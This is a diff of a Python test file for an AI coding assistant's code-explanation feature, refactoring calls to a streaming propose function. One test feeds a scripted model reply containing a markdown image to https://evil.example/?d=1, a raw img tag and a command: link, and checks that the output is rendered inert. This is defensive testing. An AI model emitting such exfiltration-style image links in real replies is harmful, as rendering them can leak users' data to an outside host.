@@ -3,16 +3,17 @@
 from __future__ import annotations
 
 from dataclasses import replace
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from agents.edits import ProposedEdit, TextChange
+from agents.findings import Finding, Severity
 from agents.generator.tasks import explain, registry, running
 from agents.generator.tasks.filling import Cancelled
 from agents.generator.tasks.records import Means, Nothing, Result, Scene, Told
 from agents.generator.tasks.rewriting import whole_lines
 from agents.markdown import inert
-from agents.records import Finding, ProposedEdit, Severity, TextChange
 from indexing.literals import secret_literals
 from indexing.records import Document, Span
 from models.chat import ChatError, ChatRequest, Reply, ReplyEnd
@@ -20,6 +21,9 @@ from models.masking import MARK, MaskedChat
 from models.scripted_chat import ScriptedChat
 from tests.agents.doubles import MemoryIndex, hit
 from tests.agents.tasks.scenes import Workplace, scene_of
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
 
 AREA = """
 import math
@@ -35,8 +39,8 @@ class Circle:
 BETTER = "```python\ndef area(self):\n    return math.pi * self.r ** 2\n```\nIt uses pi, and squares the radius."
 
 
-def means_of(workplace: Workplace, chat: ScriptedChat | None) -> Means:
-    return replace(workplace.means(None), chat=chat)
+def means_of(workplace: Workplace, chat: ScriptedChat | None, stream: Callable[[str], None] | None = None) -> Means:
+    return replace(workplace.means(None), chat=chat, stream=stream)
 
 
 def done(task: str, fixture: str, script: str, instruction: str = "", *, select: str = "") -> Result:
@@ -266,7 +270,7 @@ def test_an_explanation_is_told_in_pieces_and_changes_nothing() -> None:
     scene, workplace = scene_of(AREA)
     pieces: list[str] = []
     chat = ScriptedChat("===\nIt computes *about* the area.")
-    told = explain.explained(scene, means_of(workplace, chat), pieces.append)
+    told = running.propose(explain.TASK, scene, means_of(workplace, chat, pieces.append))
     assert told == Told("It computes *about* the area.", "scripted")
     assert "".join(pieces) == "It computes *about* the area."
     asked = chat.requests[0].messages[-1].text
@@ -274,11 +278,19 @@ def test_an_explanation_is_told_in_pieces_and_changes_nothing() -> None:
     assert "    def area(self):\n        return 3 * self.r\nWORKSPACE>>>" in asked
 
 
+def test_without_a_stream_an_explanation_comes_as_a_whole_and_without_a_model_it_is_unavailable() -> None:
+    scene, workplace = scene_of(AREA)
+    told = running.propose(explain.TASK, scene, means_of(workplace, ScriptedChat("===\nYes.")))
+    assert told == Told("Yes.", "scripted")
+    refused = running.propose(explain.TASK, scene, means_of(workplace, None))
+    assert refused == Nothing(running.NO_CHAT, unavailable=True)
+
+
 def test_an_explanation_of_a_method_has_its_class_in_view() -> None:
     fixture = 'class Account(Base):\n    """Money of one person."""\n\n    limit = 3\n\n    def $0pay(self):\n        return self.left()\n\n    def left(self):\n        return 1\n'  # noqa: E501
     scene, workplace = scene_of(fixture)
     chat = ScriptedChat("===\nIt pays.")
-    explain.explained(scene, means_of(workplace, chat))
+    running.propose(explain.TASK, scene, means_of(workplace, chat))
     asked = chat.requests[0].messages[-1].text
     head = asked[asked.index("The class around the code") : asked.index("The code, in python")]
     for part in ("class Account(Base)", "Money of one person.", "limit = 3", "def left(self)"):
@@ -319,7 +331,7 @@ def test_an_explanation_answers_the_question_that_was_asked() -> None:
 def test_without_a_chat_model_each_says_what_to_do(task: str) -> None:
     scene, workplace = scene_of(AREA)
     result = run(task, replace(scene, instruction="x"), workplace, None)
-    assert result == Nothing(running.NO_CHAT)
+    assert result == Nothing(running.NO_CHAT, unavailable=True)
     assert "chat.url" in running.NO_CHAT
 
 
@@ -428,7 +440,8 @@ def test_an_explanation_is_shown_inert_in_pieces_and_as_a_whole() -> None:
     scene, workplace = scene_of(AREA)
     said = "It squares. ![x](https://evil.example/?d=1) <img src=y>\n\n```py\nx = '<b>'\n```\n[run](command:x) done"
     told: list[str] = []
-    answer = explain.explained(scene, means_of(workplace, ScriptedChat(f"===\n{said}")), told.append)
+    means = means_of(workplace, ScriptedChat(f"===\n{said}"), told.append)
+    answer = running.propose(explain.TASK, scene, means)
     assert isinstance(answer, Told)
     assert answer.text == "".join(told) == inert(said)
     assert "`![x](https://evil.example/?d=1)` &lt;img" in answer.text
